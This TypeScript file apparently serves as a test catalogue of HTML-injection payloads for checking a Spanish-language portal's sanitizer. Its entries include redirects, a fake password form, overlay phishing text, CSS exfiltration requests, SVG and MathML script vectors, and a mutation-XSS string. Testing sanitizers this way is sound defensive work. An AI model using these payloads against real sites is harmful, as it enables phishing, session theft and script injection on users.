import type { VectorFamily } from './attempt.ts';

/** Elements that redirect the page, change its base or style, send its text elsewhere, or draw over it. */
export const documents: VectorFamily = {
  refresh: ({ away }) => `<meta http-equiv="refresh" content="0;url=${away}">`,
  'refresh in capitals': ({ away }) => `<META HTTP-EQUIV=REFRESH CONTENT="0; URL='${away}'">`,
  'refresh to data': ({ code }) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${code}</script>">`,
  'a policy of its own': ({ away }) => `<meta http-equiv=content-security-policy content="script-src ${away}">`,
  'a cookie': () => '<meta http-equiv=set-cookie content="store-code=hostil">',
  'another base': ({ away }) => `<base href="${away}/"><img src="x.png">`,
  'another target': () => '<base target="_blank">',
  'fetching ahead': ({ away }) => `<link rel=prefetch href="${away}"><link rel=dns-prefetch href="${away}">`,
  'an icon': ({ away }) => `<link rel=icon href="${away}">`,
  'a manifest': ({ away }) => `<link rel=manifest href="${away}">`,
  'a module ahead': ({ away }) => `<link rel=modulepreload href="${away}">`,
  'a form that is not the portal’s': ({ away }) =>
    `<form action="${away}"><label>Contraseña <input type=password name=p autofocus></label><button>Ingresar</button></form>`,
  'a field of the portal’s form': ({ away }) => `<button form=f formaction="${away}">Cerrar sesión</button>`,
  'a field alone': () => '<input name=x value=y><textarea name=z></textarea><select name=w><option>v</select>',
  'an open dialog': ({ code }) => `<dialog open><button autofocus onfocus=${code}>x</button></dialog>`,
  'a cover over everything': () => '<p style="position:fixed;inset:0;z-index:9999">Su sesión venció</p>',
  'a class of the portal': () => '<p class="wrap page" id="contenido">x</p>',
  'a name that scripts look for': () => '<a id="__reactRouterContext" name="__reactRouterManifest" href="/a">x</a>',
  'a form that scripts look for': () => '<form id=document name=body><input name=attributes><img name=cookie></form>',
  'a live region': () => '<p role=alert aria-live=assertive contenteditable>x</p>',
  'something to drag': ({ code }) => `<p draggable=true ondragstart=${code} accesskey=x tabindex=1>x</p>`,
  'a made-up element': ({ code }) => `<x-y is=z onclick=${code}>x</x-y>`,
  'a slot': ({ code }) => `<div><template shadowrootmode=open><slot></slot><script>${code}</script></template></div>`,
  'a style element': ({ away }) => `<style>@import url(${away});body{display:none}</style>`,
  'a style element, without an end': ({ away }) => `<style>@import '${away}';`,
  'a style by @font-face': ({ away }) => `<style>@font-face{font-family:x;src:url(${away})}*{font-family:x}</style>`,
  'a style that runs, long ago': ({ code }) =>
    `<p style="width:expression(${code});-moz-binding:url(#x);behavior:url(#y)">x</p>`,
  'a style with an escape': ({ away }) => `<p style="background:\\75rl(${away})">x</p>`,
  'a style with a comment': ({ away }) => `<p style="background:u/**/rl(${away}) url(${away})">x</p>`,
  'a style by image-set': ({ away }) => `<p style="background:image-set('${away}' 1x)">x</p>`,
  'a style in capitals': ({ away }) => `<P STYLE='LIST-STYLE:URL(${away})'>x</P>`,
  'an animation that ends': ({ code }) =>
    `<style>@keyframes k{from{top:0}}</style><p style="animation:k 1ms" onanimationend=${code} onanimationstart=${code}>x</p>`,
  'a transition that ends': ({ code }) => `<p style="transition:top 1ms" ontransitionrun=${code} id=t>x</p>`,
  'svg: an address that changes': ({ code }) =>
    `<svg><a><animate attributeName=href values=javascript:${code}></animate><text y=9>x</text></a></svg>`,
  'svg: an address that is set': ({ code }) =>
    `<svg><a><set attributeName=xlink:href to=javascript:${code}></set><text y=9>x</text></a></svg>`,
  'svg: a script': ({ code }) => `<svg><script>${code}</script></svg>`,
  'svg: a script of its own kind': ({ code }) =>
    `<svg><script type="text/ecmascript">//<![CDATA[\n${code}//]]></script></svg>`,
  'svg: a script as entities': ({ code }) => `<svg><script>${code.replace('=', '&#61;')}</script></svg>`,
  'svg: a frame within': ({ code }) =>
    `<svg><foreignObject><iframe srcdoc="<script>${code}</script>"></iframe></foreignObject></svg>`,
  'svg: a picture in a pattern': ({ away }) =>
    `<svg><pattern id=a><image href="${away}"/></pattern><rect fill=url(#a) /></svg>`,
  'svg: a style within': ({ away }) => `<svg><style>@import '${away}';</style></svg>`,
  'svg: a handler of its own': ({ code }) =>
    `<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event=load>${code}</handler></svg>`,
  'svg: a link with a namespace': ({ code }) =>
    `<svg><a xmlns:x="http://www.w3.org/1999/xlink" x:href="javascript:${code}">x</a></svg>`,
  'svg: a discard': ({ code }) => `<svg><discard onbegin=${code}></discard></svg>`,
  'math: an action': ({ code }) =>
    `<math><maction actiontype="statusline#" xlink:href="javascript:${code}">x</maction></math>`,
  'math: a namespace that changes': ({ code }) =>
    `<math><mtext></p><mglyph><svg><mtext><style><path id="</style><img src=x:x onerror=${code}>"></style></mtext></svg></math>`,
  'a sound that starts': ({ away }) => `<bgsound src="${away}"><embed src="${away}" autostart=true>`,
  'a page within, of any kind': ({ away }) =>
    `<portal src="${away}"></portal><fencedframe src="${away}"></fencedframe><object data="${away}"></object>`,
  'a worker in a link': ({ away }) =>
    `<link rel=serviceworker href="${away}"><script src=${away} async defer></script>`,
  'a popover': ({ code }) =>
    `<button popovertarget=p autofocus>x</button><div id=p popover onbeforetoggle=${code}>x</div>`,
  'a command': ({ code }) =>
    `<button commandfor=p command=show-popover>x</button><div id=p popover ontoggle=${code}>x</div>`,
};
